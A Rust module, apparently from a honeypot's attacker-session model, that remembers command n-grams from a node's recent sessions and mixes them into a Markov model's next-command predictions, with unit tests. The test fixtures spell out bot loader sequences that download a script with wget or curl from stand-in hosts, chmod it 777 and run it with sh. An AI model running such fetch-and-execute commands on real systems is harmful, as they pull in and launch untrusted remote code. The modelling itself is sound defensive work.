//! Layer 1's node memory: what the node's own finished sessions typed, mixed into the command
//! model's prediction ([`NodeMemory::predict`]).
//!
//! Bot campaigns change their scripts after the model was trained (a loader stops running
//! `curl -O`, a login starts with `cd /tmp`); the model then misses the same command in every
//! later session. The memory counts the command n-grams (the same context keys as the model's
//! command chain: login, start and up to [`Markov::order`] commands, fetched names as
//! placeholders) of the last [`NodeMemory::capacity`] sessions that *ended* on this node, so a
//! changed script is expected from its second session on wherever the model was unsure (the
//! memory's share is at most [`WEIGHT`]: it breaks the model's ties and near-ties, it does not
//! overrule a confident model). Where the memory knows a context at least as long as the
//! longest the model knows, the memory's distribution after it gets the share
//! `weight · n / (n + prior)` of `n` sessions' evidence; elsewhere the model's prediction is
//! unchanged, as it is with an empty memory. The weights were chosen on the held-out
//! evaluation (MODELS.md, "Node memory"): larger ones gain on novel sessions but lose on some
//! classes and pooled.
//!
//! Bounded: a window of sessions (the oldest leaves when a new one comes or the byte budget is
//! spent), at most [`MAX_COMMANDS`] commands of each; context keys are 64-bit hashes. Cost per
//! command: one hash per context length and one map lookup. It lives in memory only: a node
//! starts with an empty one; replays have none (`ModelHandle::with_memory`).

use std::collections::{HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use super::context::{Login, SessionContext};
use super::markov::{Markov, Prediction};
use super::normalize::Normalized;

/// Default [`NodeMemory::capacity`]: the last sessions remembered.
pub const CAPACITY: usize = 2_000;
/// Default byte budget of the memory's entries.
pub const MAX_BYTES: usize = 32 << 20;
/// Most commands of one session remembered (bot scripts are shorter).
pub const MAX_COMMANDS: usize = 64;
/// Default [`NodeMemory::weight`].
pub const WEIGHT: f64 = 0.4;
/// Default [`NodeMemory::prior`].
pub const PRIOR: f64 = 0.05;
/// How many more model guesses than asked for are mixed with the memory's.
const EXTRA: usize = 5;
/// Bytes an entry costs besides its strings (key, two pointers, count, vector slots).
const ENTRY_BYTES: usize = 64;

/// One remembered transition: context key hash, next command (placeholders kept), program.
type Entry = (u64, Arc<str>, Arc<str>);

/// Next commands remembered after a context: (token, count, program).
type Recalled = Vec<(Arc<str>, f64, Arc<str>)>;

/// Counts of next commands after one context.
#[derive(Debug, Default)]
struct Dist {
    total: u32,
    next: Vec<(Arc<str>, Arc<str>, u32)>,
}

#[derive(Debug, Default)]
struct Inner {
    /// Each remembered session's entries, the oldest first.
    window: VecDeque<Vec<Entry>>,
    counts: HashMap<u64, Dist>,
    bytes: usize,
}

/// What the node's last finished sessions typed (see the module documentation). Shared by
/// every session of a node (`Arc`); methods take `&self`.
#[derive(Debug)]
pub struct NodeMemory {
    inner: Mutex<Inner>,
    /// Most sessions remembered.
    pub capacity: usize,
    /// Byte budget of the entries.
    pub max_bytes: usize,
    /// Largest share of the memory's guess in a prediction.
    pub weight: f64,
    /// Sessions' worth of doubt: with `n` sessions behind a context the share is
    /// `weight · n / (n + prior)`.
    pub prior: f64,
    /// Whether the memory is mixed in only where it knows a context at least as long as the
    /// longest the model knows (else wherever it knows one).
    pub at_least_model: bool,
}

impl Default for NodeMemory {
    fn default() -> NodeMemory {
        NodeMemory::new(CAPACITY)
    }
}

impl NodeMemory {
    /// An empty memory of the last `capacity` sessions, default weights.
    pub fn new(capacity: usize) -> NodeMemory {
        NodeMemory {
            inner: Mutex::new(Inner::default()),
            capacity: capacity.max(1),
            max_bytes: MAX_BYTES,
            weight: WEIGHT,
            prior: PRIOR,
            at_least_model: true,
        }
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, Inner> {
        match self.inner.lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    /// Sessions remembered now.
    pub fn sessions(&self) -> usize {
        self.lock().window.len()
    }

    /// Bytes the remembered entries take (approximately: strings and fixed costs).
    pub fn bytes(&self) -> usize {
        self.lock().bytes
    }

    /// Remembers a finished session that logged in with `login` and typed `commands`, with
    /// context keys as `model`'s (up to its order); the oldest sessions leave past the bounds.
    pub fn remember(&self, model: &Markov, login: &Login, commands: &[Normalized]) {
        let mut context = SessionContext::new(login);
        let mut entries: Vec<Entry> = Vec::new();
        for command in commands.iter().take(MAX_COMMANDS) {
            let token: Arc<str> = Arc::from(context.target(command));
            let program: Arc<str> = Arc::from(command.program.as_str());
            for hash in keys(&context, model.order) {
                entries.push((hash, token.clone(), program.clone()));
            }
            context.push(command, None);
        }
        let mut inner = self.lock();
        for (hash, token, program) in &entries {
            let dist = inner.counts.entry(*hash).or_default();
            dist.total = dist.total.saturating_add(1);
            match dist.next.iter_mut().find(|e| e.0 == *token) {
                Some(entry) => entry.2 = entry.2.saturating_add(1),
                None => dist.next.push((token.clone(), program.clone(), 1)),
            }
            inner.bytes += entry_bytes(token, program);
        }
        inner.window.push_back(entries);
        while inner.window.len() > self.capacity
            || (inner.bytes > self.max_bytes && inner.window.len() > 1)
        {
            let Some(old) = inner.window.pop_front() else {
                break;
            };
            for (hash, token, program) in old {
                inner.bytes = inner.bytes.saturating_sub(entry_bytes(&token, &program));
                if let Some(dist) = inner.counts.get_mut(&hash) {
                    dist.total = dist.total.saturating_sub(1);
                    if let Some(at) = dist.next.iter().position(|e| e.0 == token) {
                        dist.next[at].2 -= 1;
                        if dist.next[at].2 == 0 {
                            dist.next.swap_remove(at);
                        }
                    }
                    if dist.total == 0 {
                        inner.counts.remove(&hash);
                    }
                }
            }
        }
    }

    /// The `k` most likely next commands in this session: `model`'s prediction mixed with
    /// what the memory's sessions typed after the longest context it knows (unchanged where
    /// it knows none). Probabilities sum to at most 1; ties break by token.
    pub fn predict(&self, model: &Markov, context: &SessionContext, k: usize) -> Vec<Prediction> {
        let (recalled, known) = self.recall(context, model.order);
        if recalled.is_empty()
            || k == 0
            || (self.at_least_model && model.known_order(context).is_some_and(|n| n > known))
        {
            return model.predict_in(context, k);
        }
        let sessions: f64 = recalled.iter().map(|r| r.1).sum();
        let share = self.weight.clamp(0.0, 1.0) * sessions / (sessions + self.prior.max(0.0));
        let mut ranked = model.predict_in(context, k + EXTRA);
        for guess in &mut ranked {
            guess.probability *= 1.0 - share;
        }
        for (token, count, program) in recalled {
            let Some(surface) = context.spell(&token) else {
                continue;
            };
            let p = share * count / sessions;
            match ranked.iter_mut().find(|g| g.token == surface) {
                Some(guess) => guess.probability += p,
                None => ranked.push(Prediction {
                    token: surface.into_owned(),
                    program: program.to_string(),
                    probability: p,
                }),
            }
        }
        ranked.sort_by(|a, b| {
            b.probability
                .total_cmp(&a.probability)
                .then_with(|| a.token.cmp(&b.token))
        });
        ranked.truncate(k);
        ranked
    }

    /// The next commands remembered after the longest context known, (token, count,
    /// program), and that context's length in items.
    fn recall(&self, context: &SessionContext, order: usize) -> (Recalled, usize) {
        let hashes = keys(context, order);
        let inner = self.lock();
        if inner.counts.is_empty() {
            return (Vec::new(), 0);
        }
        hashes
            .iter()
            .enumerate()
            .rev()
            .find_map(|(i, h)| inner.counts.get(h).map(|d| (i + 1, d)))
            .map(|(n, dist)| {
                let next = dist
                    .next
                    .iter()
                    .map(|(t, p, c)| (t.clone(), f64::from(*c), p.clone()))
                    .collect();
                (next, n)
            })
            .unwrap_or_default()
    }
}

fn entry_bytes(token: &str, program: &str) -> usize {
    ENTRY_BYTES + token.len() + program.len()
}

/// Hashes (FNV-1a) of the context keys of lengths 1 to reach, shortest first.
fn keys(context: &SessionContext, order: usize) -> Vec<u64> {
    let (items, reach) = context.items(false, order);
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    let mut out = Vec::with_capacity(reach);
    for item in items.iter().rev().take(reach) {
        for byte in item.bytes().chain([0x1f]) {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(0x0100_0000_01b3);
        }
        out.push(hash);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::normalize::normalize_line;

    fn session(lines: &[&str]) -> Vec<Normalized> {
        lines.iter().flat_map(|l| normalize_line(l)).collect()
    }

    fn context(commands: &[Normalized]) -> SessionContext {
        let mut context = SessionContext::new(&Login::default());
        for command in commands {
            context.push(command, None);
        }
        context
    }

    fn old_script() -> Vec<Normalized> {
        session(&[
            "cd /tmp",
            "wget http://a/bins.sh",
            "curl -O http://a/bins.sh",
            "chmod 777 bins.sh",
        ])
    }

    #[test]
    fn a_changed_script_is_expected_after_one_session_of_it() {
        // The model saw two variants of a loader equally often: it is unsure what follows the
        // download.
        let old = old_script();
        let run = session(&["cd /tmp", "wget http://a/bins.sh", "sh bins.sh"]);
        let model = Markov::trained(3, [old.as_slice(), run.as_slice()]);
        let memory = NodeMemory::default();
        // The campaign now skips `curl -O` and names its file otherwise.
        let new = session(&[
            "cd /tmp",
            "wget http://b/new.sh",
            "chmod 777 new.sh",
            "sh new.sh",
        ]);
        let prefix = context(&new[..2]);
        assert_ne!(memory.predict(&model, &prefix, 1)[0].program, "chmod");
        memory.remember(&model, &Login::default(), &new);
        let next = session(&["cd /tmp", "wget http://c/other.sh"]);
        let guess = memory.predict(&model, &context(&next), 3);
        assert_eq!(guess[0].token, "chmod <NUM> other.sh", "{guess:?}");
        let sum: f64 = guess.iter().map(|g| g.probability).sum();
        assert!(sum <= 1.0 + 1e-9, "{guess:?}");
        // Where the memory knows no context, the model's guess stands.
        let elsewhere = context(&session(&["uname -a"]));
        assert_eq!(
            memory.predict(&model, &elsewhere, 3),
            model.predict_in(&elsewhere, 3)
        );
    }

    #[test]
    fn an_empty_memory_changes_nothing() {
        let old = old_script();
        let model = Markov::trained(3, [old.as_slice()]);
        let memory = NodeMemory::default();
        for i in 0..=old.len() {
            let c = context(&old[..i]);
            assert_eq!(
                memory.predict(&model, &c, 3),
                model.predict_in(&c, 3),
                "{i}"
            );
        }
    }

    #[test]
    fn the_memory_keeps_only_its_last_sessions() {
        let old = old_script();
        let model = Markov::trained(3, [old.as_slice()]);
        let memory = NodeMemory::new(3);
        let a = session(&["id", "uname -a"]);
        memory.remember(&model, &Login::default(), &a);
        let after_id = context(&a[..1]);
        assert_eq!(memory.predict(&model, &after_id, 1)[0].token, "uname -a");
        let bytes_of_one = memory.bytes();
        for i in 0..10 {
            let other = session(&[&format!("echo {i}"), "w"]);
            memory.remember(&model, &Login::default(), &other);
        }
        assert_eq!(memory.sessions(), 3);
        // `id` left the window with its session: nothing is remembered after it.
        assert!(memory.recall(&after_id, 3).0.is_empty());
        assert!(
            memory.bytes() <= 3 * bytes_of_one + 64,
            "{}",
            memory.bytes()
        );
        // The byte budget bounds it too.
        let mut small = NodeMemory::new(100);
        small.max_bytes = bytes_of_one;
        for _ in 0..5 {
            small.remember(&model, &Login::default(), &a);
        }
        assert_eq!(small.sessions(), 1);
        // A long session is remembered only up to MAX_COMMANDS commands.
        let long: Vec<String> = (0..500).map(|i| format!("echo {i}")).collect();
        let long: Vec<&str> = long.iter().map(String::as_str).collect();
        let one = NodeMemory::new(1);
        one.remember(&model, &Login::default(), &session(&long));
        assert!(one.bytes() <= MAX_COMMANDS * 3 * (ENTRY_BYTES + 40));
    }
}
